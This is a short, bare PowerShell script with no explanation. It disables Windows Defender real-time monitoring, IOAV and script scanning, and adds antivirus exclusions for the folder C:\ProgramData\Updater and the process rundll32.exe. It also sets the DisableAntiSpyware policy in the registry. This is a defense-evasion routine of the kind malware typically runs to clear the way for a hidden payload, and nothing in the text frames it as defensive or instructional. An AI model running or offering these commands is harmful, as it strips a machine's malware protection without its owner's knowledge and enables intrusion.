Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableIOAVProtection $true -DisableScriptScanning $true
Add-MpPreference -ExclusionPath 'C:\ProgramData\Updater'
Add-MpPreference -ExclusionProcess 'rundll32.exe'
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name 'DisableAntiSpyware' -Value 1 -PropertyType DWord -Force
